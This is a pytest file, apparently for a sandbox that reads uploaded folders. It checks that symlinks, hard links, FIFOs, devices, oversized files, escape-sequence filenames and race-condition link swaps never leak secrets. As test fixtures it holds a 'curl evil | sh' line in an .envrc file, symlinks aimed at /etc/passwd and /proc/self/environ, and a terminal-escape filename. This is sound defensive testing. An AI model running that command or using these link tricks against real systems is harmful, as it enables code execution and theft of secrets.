"""Reading a hostile folder for `sandbox run`: nothing outside it, nothing but regular files, nothing huge."""

from __future__ import annotations

import os
import resource
import threading
from pathlib import Path

import pytest

from agents.errors import SandboxError
from bot.sandbox.folder import read_folder, shown

SECRET = "outside-secret-5d41402abc4b2a76"
LIMIT = 1_000_000


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A folder beside the one uploaded, holding what must never travel."""
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "secret.txt").write_text(SECRET)
    return folder


@pytest.fixture
def root(tmp_path: Path) -> Path:
    folder = tmp_path / "project"
    folder.mkdir()
    (folder / "app.py").write_text("x = 1\n")
    return folder


def reasons(read) -> dict[str, str]:
    return dict(read.skipped)


def no_secret(read) -> None:
    assert all(SECRET not in content for content in read.files.values())


def test_regular_files_are_read_with_their_relative_paths(root):
    (root / "pkg" / "sub").mkdir(parents=True)
    (root / "pkg" / "sub" / "mod.py").write_text("y = 2\n")
    (root / "test_app.py").write_text("")
    read = read_folder(root, LIMIT)
    assert read.files == {"app.py": "x = 1\n", "pkg/sub/mod.py": "y = 2\n", "test_app.py": ""}
    assert read.skipped == []


@pytest.mark.parametrize("target", ["/proc/self/environ", "/etc/passwd", "../outside/secret.txt",
                                    "/dev/zero", "/nonexistent"])
def test_links_to_files_are_never_followed(root, outside, target):
    (root / "leak.txt").symlink_to(target)
    read = read_folder(root, LIMIT)
    assert "leak.txt" not in read.files
    assert "link" in reasons(read)["leak.txt"]
    no_secret(read)
    assert set(read.files) == {"app.py"}


def test_linked_folders_links_in_sub_folders_and_links_to_links_are_skipped(root, outside):
    (root / "linked").symlink_to(outside, target_is_directory=True)
    (root / "deep" / "er").mkdir(parents=True)
    (root / "deep" / "er" / "leak.txt").symlink_to(outside / "secret.txt")
    (root / "first").symlink_to(outside / "secret.txt")
    (root / "second").symlink_to(root / "first")
    read = read_folder(root, LIMIT)
    assert set(read.files) == {"app.py"}
    assert {"linked", "deep/er/leak.txt", "first", "second"} <= set(reasons(read))
    no_secret(read)


def test_a_hard_link_to_a_file_outside_is_skipped(root, outside):
    os.link(outside / "secret.txt", root / "hard.txt")
    read = read_folder(root, LIMIT)
    assert "hard links" in reasons(read)["hard.txt"]
    no_secret(read)


def test_a_fifo_is_skipped_without_blocking(root):
    os.mkfifo(root / "pipe.txt")  # opening it for reading would wait for a writer forever
    read = read_folder(root, LIMIT)
    assert "FIFO" in reasons(read)["pipe.txt"]
    assert set(read.files) == {"app.py"}


def test_a_device_is_skipped(root):
    try:
        os.mknod(root / "zero.txt", 0o600 | 0o020000, os.makedev(1, 5))  # a character device like /dev/zero
    except PermissionError:
        pytest.skip("creating a device node needs root")
    read = read_folder(root, LIMIT)
    assert "device" in reasons(read)["zero.txt"]


def test_a_1_gb_sparse_file_is_refused_before_it_is_read(root):
    with open(root / "huge.txt", "wb") as huge:
        huge.truncate(1 << 30)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    read = read_folder(root, LIMIT)
    grown_kib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert "upload limit" in reasons(read)["huge.txt"]
    assert grown_kib < 200 * 1024  # far below the 1 GB a read would have taken


def test_the_total_is_capped_not_only_each_file(root):
    for i in range(5):
        (root / f"part{i}.txt").write_text("x" * 400)
    read = read_folder(root, 1000)
    assert read.size <= 1000
    assert set(read.files) == {"app.py", "part0.txt", "part1.txt"}  # 806 bytes; one more would pass 1000
    assert sum("upload limit" in why for _, why in read.skipped) == 3


def test_a_huge_number_of_files_is_cut_at_the_entry_limit(root):
    for i in range(300):
        (root / f"f{i:03}.txt").write_text("")
    read = read_folder(root, LIMIT, max_entries=100)
    assert len(read.files) == 100
    assert read.cut and "over 100 names" in read.skipped[-1][1]


def test_binary_files_odd_names_and_tool_control_files_are_skipped(root):
    (root / "blob.bin").write_bytes(b"\xff\xfe\x00")
    (root / "\x1b]0;pwned\x07.txt").write_text("")
    (root / os.fsdecode(b"bad\xffname.txt")).write_text("")
    (root / ".envrc").write_text("curl evil | sh\n")
    (root / "node_modules").mkdir()
    (root / "node_modules" / "dep.js").write_text("")
    read = read_folder(root, LIMIT)
    assert set(read.files) == {"app.py"}
    why = reasons(read)
    assert why["blob.bin"] == "not UTF-8 text"
    assert "control characters" in why["\x1b]0;pwned\x07.txt"]
    assert "not UTF-8" in why[os.fsdecode(b"bad\xffname.txt")]
    assert ".envrc" in why[".envrc"]
    assert "node_modules/" in why
    assert shown("\x1b]0;pwned\x07.txt") == "\\x1b]0;pwned\\x07.txt"


def test_a_file_swapped_for_a_link_after_listing_is_not_followed(root, outside, monkeypatch):
    """The listing saw a regular file; by the time it is opened it is a link to the secret."""
    (root / "swap.py").write_text("fine = True\n")
    (root / "dir").mkdir()
    (root / "dir" / "a.py").write_text("")
    real_scandir = os.scandir

    def listing_then_swap(fd):
        entries = list(real_scandir(fd))
        for entry in entries:
            entry.stat(follow_symlinks=False)  # listed and looked at; swapped before it is opened
        for name, target in (("swap.py", outside / "secret.txt"), ("dir", outside)):
            path = root / name
            if path.exists() and not path.is_symlink():
                os.rename(path, root.parent / f"old-{name}")
                path.symlink_to(target)
        return _Listing(entries)

    monkeypatch.setattr(os, "scandir", listing_then_swap)
    read = read_folder(root, LIMIT)
    no_secret(read)
    why = reasons(read)
    assert "replaced after it was listed" in why["swap.py"]
    assert "replaced after it was listed" in why["dir/"]


def test_a_folder_raced_by_link_swaps_never_leaks(root, outside):
    """A writer keeps swapping a file and a folder for links while the folder is read again and again."""
    (root / "sub").mkdir()
    (root / "sub" / "a.py").write_text("")
    stop = threading.Event()

    def swapper() -> None:
        while not stop.is_set():
            for name, target in (("victim.py", outside / "secret.txt"), ("sub", outside)):
                path, parked = root / name, root.parent / f"parked-{name}"
                link = root / f".{name}.link"
                if not link.is_symlink():
                    link.symlink_to(target)
                if path.is_dir() and not path.is_symlink():
                    os.rename(path, parked)
                    os.rename(link, path)
                    os.unlink(path)
                    os.rename(parked, path)
                else:
                    (root / ".tmp").write_text("plain\n")
                    os.rename(link, path)
                    os.rename(root / ".tmp", path)

    thread = threading.Thread(target=swapper)
    thread.start()
    try:
        for _ in range(300):
            no_secret(read_folder(root, LIMIT))
    finally:
        stop.set()
        thread.join()


def test_a_file_instead_of_a_folder_is_refused(root):
    with pytest.raises(SandboxError, match="is not a folder"):
        read_folder(root / "app.py", LIMIT)
    with pytest.raises(SandboxError, match="is not a folder"):
        read_folder(root / "missing", LIMIT)


class _Listing(list):
    """What ``os.scandir`` returns, as a context manager over entries already read."""

    def __enter__(self):
        return iter(self)

    def __exit__(self, *_exc: object) -> None:
        return None
